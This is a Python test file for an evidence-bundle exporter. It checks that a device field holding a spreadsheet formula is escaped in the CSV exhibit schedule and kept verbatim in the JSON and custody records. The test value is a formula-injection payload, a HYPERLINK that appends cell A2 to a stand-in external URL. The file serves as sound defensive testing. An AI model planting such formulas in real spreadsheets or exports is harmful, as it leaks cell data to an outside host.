"""A sidecar value that is a spreadsheet formula: text in the bundle's CSV, true elsewhere."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from bundle_verifier.bundle import verify_bundle
from evidence.custody import Actor
from evidence.model import EvidenceItem, utcnow
from evidence.quarantine import Quarantine
from evidence.settings import Settings
from storage.bootstrap import Services
from storage.database import make_engine, migrate
from storage.local_store import LocalStore
from storage.unit_of_work import SqlRepository
from tests.fixtures import case_desk
from tests.fixtures.bundles import export_as

FORMULA = '=HYPERLINK("https://example.invalid/?"&A2,"Open exhibit")'
URN = "01YZ1234524"


def test_a_formula_device_is_inert_in_the_csv_and_kept_in_json_and_custody(
    tmp_path: Path,
) -> None:
    database_url = f"sqlite:///{tmp_path / 'evidence.sqlite3'}"
    engine = make_engine(database_url)
    migrate(engine)
    services = Services(
        settings=Settings(home=tmp_path / "home", database_url=database_url),
        engine=engine,
        repo=SqlRepository(engine),
        store=LocalStore(tmp_path / "store"),
        quarantine=Quarantine(tmp_path / "quarantine"),
    )
    stored = services.store.put(io.BytesIO(b"media " * 1000), label="clip.mp4")
    item = EvidenceItem(
        id=stored.sha256[:32],
        sha256=stored.sha256,
        size=stored.size,
        kind="bwv",
        original_name="clip.mp4",
        source_path="dock/clip.mp4",
        storage_key=stored.key,
        store_location=stored.location,
        ingested_at=utcnow(),
        officer="PC4521",
        device=FORMULA,
    )
    officer = Actor("PC4521", "dock-01")
    services.repo.add_item(
        item, [("received", officer, item.sha256, {"sidecar": {"device": FORMULA}}, utcnow())]
    )
    desk = Actor("DC1001", "desk-01")
    case_desk.create_case(services, URN, desk)
    case_desk.link_items(services, URN, [item.id], desk)

    bundle = export_as(services, URN, tmp_path / "out", desk)
    engine.dispose()

    assert verify_bundle(bundle).ok
    csv_text = (bundle / "data" / "exhibit-schedule.csv").read_text(encoding="utf-8")
    [row] = list(csv.DictReader(io.StringIO(csv_text)))
    assert row["Device"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    [exhibit] = json.loads((bundle / "data" / "exhibits.json").read_text())["exhibits"]
    custody = json.loads((bundle / exhibit["custody"]).read_text())
    assert custody[0]["details"]["sidecar"]["device"] == FORMULA
    html = (bundle / "data" / "exhibit-schedule.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;https://example.invalid/?&quot;&amp;A2" in html
